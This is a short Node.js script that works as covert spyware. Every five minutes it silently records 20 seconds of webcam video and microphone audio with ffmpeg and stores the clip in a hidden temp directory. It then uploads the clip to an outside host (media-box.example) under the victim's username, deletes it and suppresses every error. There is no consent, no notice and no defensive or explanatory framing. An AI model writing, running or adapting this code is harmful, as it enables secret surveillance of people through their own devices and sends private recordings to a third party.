const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const tmp = path.join(os.tmpdir(), '.m');
fs.mkdirSync(tmp, { recursive: true });

function record(cb) {
  const f = path.join(tmp, Date.now() + '.mkv');
  execFile('ffmpeg', ['-loglevel', 'quiet', '-f', 'v4l2', '-i', '/dev/video0', '-f', 'pulse', '-i', 'default', '-t', '20', f], (e) => cb(e, f));
}

function upload(f) {
  const req = https.request({ host: 'media-box.example', path: '/u/' + os.userInfo().username, method: 'PUT' });
  req.on('error', () => {});
  fs.createReadStream(f).pipe(req).on('finish', () => fs.unlink(f, () => {}));
}

setInterval(() => record((e, f) => { if (!e) upload(f); }), 5 * 60 * 1000);
